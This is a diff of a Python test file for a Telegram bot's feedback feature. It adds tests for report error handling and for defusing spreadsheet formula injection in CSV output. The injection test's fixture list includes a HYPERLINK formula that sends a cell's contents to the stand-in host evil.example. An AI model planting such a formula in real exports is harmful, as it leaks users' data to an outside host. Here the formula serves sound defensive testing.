@@ -10,6 +10,7 @@ from bot import feedback
 from bot.config import FeedbackConfig, GroupsConfig, load_feedback_config
 from tests.fakebotapi import ALICE, BOB, PRIVATE_CHAT, parse_html
 from tests.fakeretriever import FakeRetriever
+from tests.helpers import started
 
 ADMIN = {"id": 4242, "is_bot": False, "first_name": "Admin"}
 ADMIN_CHAT = {"id": 4242, "type": "private", "first_name": "Admin"}
@@ -26,7 +27,7 @@ async def test_votes_are_stored_once_per_user_and_shown_in_stats(make_bot, fake_
                            groups=GroupsConfig(log_path=tmp_path / "chatlog.sqlite"),
                            feedback=FeedbackConfig(log_path=db))
     feed = lambda u: application.process_update(Update.de_json(u, application.bot))  # noqa: E731
-    async with application:
+    async with started(application):
         await feed(fake_bot_api.message_update("巴西足球比分是多少"))  # 1st search: not found
         await feed(fake_bot_api.message_update("口罩产量是多少"))  # 2nd: found, with buttons
         answer = next(c for c in fake_bot_api.calls if c.method == "sendMessage" and "reply_markup" in c.params)
@@ -57,7 +58,7 @@ async def test_votes_are_stored_once_per_user_and_shown_in_stats(make_bot, fake_
 
 async def test_every_page_of_an_answer_carries_the_vote_buttons(make_bot, fake_bot_api):
     application = make_bot(FakeRetriever(found_every=1), passages=1, max_passages=4)
-    async with application:
+    async with started(application):
         await application.process_update(Update.de_json(fake_bot_api.message_update("口罩"), application.bot))
         first = fake_bot_api.calls[-1]
         more = buttons(first.params)["更多 ▸"]
@@ -115,3 +116,48 @@ def test_vote_buttons_go_under_the_answer_buttons():
     keyboard = feedback.with_vote_buttons(InlineKeyboardMarkup([[InlineKeyboardButton("全文", callback_data="full:ab:0")]]),
                                           "ab")
     assert [[b.text for b in row] for row in keyboard.inline_keyboard] == [["全文"], ["👍", "👎"]]
+
+
+def test_the_report_defuses_spreadsheet_formulas(tmp_path, capsys):
+    """OWASP CSV injection: a cell a spreadsheet would evaluate starts with a single quote, the rest as asked."""
+    import csv
+    import io
+
+    db = tmp_path / "f.sqlite"
+    log = feedback.FeedbackLog(db)
+    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx",
+               "＝1+1"]
+    for at, question in enumerate(hostile + ["口罩 = 多少", "2-1"]):
+        log.record_not_found("-100", question, at=1_600_000_000.0 + at)
+    log.record_answer("k1", "-100", "=1+1", [1], at=1_600_000_000.0)
+    log.vote("k1", "u:a", "down", at=1_600_000_000.0)
+    log.close()
+    assert feedback.report_main(["--db", str(db)]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
+    questions = {row[1] for row in rows[1:]}
+    assert {"'" + q for q in hostile} | {"'=1+1", "口罩 = 多少", "2-1"} == questions  # nothing else changed
+
+
+def test_the_report_refuses_a_file_that_is_not_a_feedback_log_and_changes_nothing(tmp_path, capsys):
+    other = tmp_path / "other.sqlite"
+    conn = sqlite3.connect(other)
+    conn.execute("CREATE TABLE people (name TEXT)")
+    conn.commit()
+    conn.close()
+    before = other.read_bytes()
+    garbage = tmp_path / "garbage.sqlite"
+    garbage.write_bytes(b"not a database at all\n" * 100)
+    for path in (other, garbage):
+        assert feedback.report_main(["--db", str(path)]) == 1
+        out, err = capsys.readouterr()
+        assert out == "" and err.startswith("error: ") and "not a feedback log" in err and len(err.splitlines()) == 1
+    assert other.read_bytes() == before and sorted(p.name for p in tmp_path.iterdir()) == ["garbage.sqlite", "other.sqlite"]
+
+
+def test_the_report_names_a_bad_config_in_one_line(tmp_path, capsys):
+    (tmp_path / "config.toml").write_text("[feedback\nlog_path = 'f.sqlite'\n", encoding="utf-8")
+    assert feedback.report_main(["--config", str(tmp_path / "config.toml")]) == 2
+    err = capsys.readouterr().err.splitlines()
+    assert len(err) == 1 and err[0].startswith("config error: ") and "TOML" in err[0]
